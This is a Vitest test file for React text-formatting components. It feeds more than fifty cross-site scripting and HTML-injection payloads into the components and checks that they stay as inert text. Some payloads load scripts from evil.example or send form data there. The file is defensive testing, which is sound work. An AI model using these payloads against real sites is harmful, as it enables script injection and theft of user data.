import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { FormattedParagraphs, FormattedText } from './formatted-text.tsx'

/** What an editor could paste to make a page run, load or spoof something. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=card>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x/>',
  '</p></section><h1>Another page</h1>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of another language's template
  '${alert(1)}',
  '<%= 7 * 7 %>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert`1`)',
  '[x](java&#115;cript:alert`1`)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https://good.example@evil.example)',
  '[x](https://a.example"onclick="alert`1`)',
  '[x]: javascript:alert(1)',
  '![x](https://evil.example/track.gif)',
  '<https://evil.example>',
  '<javascript:alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '\u202Etxet <b>reversed</b>',
  '<b\u0000>x</b>',
]

/** The elements that the five kinds of formatting produce, and nothing else. */
const MARKS = new Set(['p', 'ul', 'li', 'strong', 'em', 'a', 'br'])

describe('hostile HTML stays text', () => {
  it('in more than fifty forms', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThan(50)
  })

  it.each(HOSTILE)('%j', (hostile) => {
    for (const written of [hostile, `**${hostile}**`, `- ${hostile}`, `Before ${hostile} after`]) {
      const html = [
        renderToStaticMarkup(<FormattedParagraphs text={written} />),
        renderToStaticMarkup(<FormattedText text={written} />),
      ].join('')
      const tags = [...html.matchAll(/<\/?([^\s>/]*)([^>]*)>/g)]
      expect(tags.filter(([, name = '']) => !MARKS.has(name)).map(([tag]) => tag)).toEqual([])
      const attributes = tags
        .map(([, , rest = '']) => rest.trim())
        .filter((rest) => rest !== '' && rest !== '/')
      for (const attribute of attributes) expect(attribute).toMatch(/^href="(https:\/\/|\/(?!\/))[^"\s]*"$/)
    }
  })

  it('while the marks are elements, and links within the site lead to the page in the reader’s language', () => {
    const html = renderToStaticMarkup(
      <FormattedParagraphs text={'A **b** *i*\nnext [home](/#faq)\n\n- one\n- [two](https://example.com)'} />,
    )
    expect(html).toBe(
      '<p>A <strong>b</strong> <em>i</em><br/>next <a href="/#faq">home</a></p><ul><li>one</li><li><a href="https://example.com">two</a></li></ul>',
    )
  })
})
